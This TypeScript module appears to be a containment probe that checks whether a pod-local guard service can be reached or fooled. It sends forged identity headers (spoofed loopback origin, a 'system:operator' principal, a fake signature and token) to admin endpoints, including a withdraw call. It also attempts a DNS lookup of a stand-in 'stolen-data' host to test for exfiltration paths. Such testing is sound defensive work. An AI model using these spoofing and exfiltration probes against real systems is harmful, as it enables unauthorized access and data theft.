import { Resolver } from 'node:dns/promises'
import { request } from 'node:http'
import { connect } from 'node:net'
import { networkInterfaces } from 'node:os'
import { guarded } from './steal.ts'

/** What a caller without rights says to be more. */
const forged = {
  'x-forwarded-for': '127.0.0.1',
  forwarded: 'for=127.0.0.1;proto=https',
  'x-real-ip': '127.0.0.1',
  'x-forwarded-user': 'system:operator',
  'x-bartizan-principal': 'system:operator',
  'x-bartizan-drain': 'guess',
  'x-bartizan-signature': '0'.repeat(64),
  authorization: 'Bearer guess',
}

type Question = { readonly method?: string; readonly path: string; readonly body?: string }

const questions: readonly Question[] = [
  { path: '/mcp' },
  { path: '/-/status' },
  { path: '/-/drain' },
  { path: '/-/readyz' },
  { path: '/metrics' },
  { method: 'POST', path: '/-/withdraw', body: '{"withdrawals":[{"uid":"guess"}]}' },
]

/** Status and length of the answer, or why there is none. */
function ask(host: string, port: number, { body, ...question }: Question): Promise<string> {
  return new Promise(resolve => {
    const call = request({ host, port, ...question, headers: forged, timeout: 3000 }, answer => {
      let length = 0
      answer.on('data', (chunk: Buffer) => (length += chunk.length))
      answer.on('close', () => resolve(`${answer.statusCode} ${length} bytes`))
      answer.on('error', () => {})
    })
    call.on('timeout', () => call.destroy(new Error('ETIMEDOUT')))
    call.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? error.message))
    call.end(body)
  })
}

/** All that can be asked of the guard from beside it: loopback, the pod's own address, its Service. */
export async function spy(service: string | undefined): Promise<Readonly<Record<string, string>>> {
  const own = Object.values(networkInterfaces())
    .flatMap(addresses => addresses ?? [])
    .filter(({ internal, family }) => !internal && family === 'IPv4')
    .map(({ address }) => address)
  const seen: Record<string, string> = {}
  for (const host of ['127.0.0.1', '::1', ...own])
    for (const port of guarded)
      for (const one of questions) seen[`${host}:${port}${one.path}`] = await ask(host, port, one)
  if (service !== undefined)
    for (const one of questions) seen[`${service}:8080${one.path}`] = await ask(service, 8080, one)
  return seen
}

/** Whether a name can be asked for outside, where data would go with the question. */
export async function ask53(address: string): Promise<string> {
  const resolver = new Resolver({ timeout: 2000, tries: 1 })
  resolver.setServers([address])
  return resolver.resolve4('stolen-data.example.com').then(
    () => 'answered',
    (error: NodeJS.ErrnoException) => error.code ?? error.message,
  )
}

/** Whether a connection comes about. */
export function dial(host: string, port: number): Promise<string> {
  return new Promise(resolve => {
    const socket = connect({ host, port, timeout: 3000 })
    const end = (says: string): void => {
      socket.destroy()
      resolve(says)
    }
    socket.on('connect', () => end('connected'))
    socket.on('timeout', () => end('ETIMEDOUT'))
    socket.on('error', (error: NodeJS.ErrnoException) => end(error.code ?? error.message))
  })
}
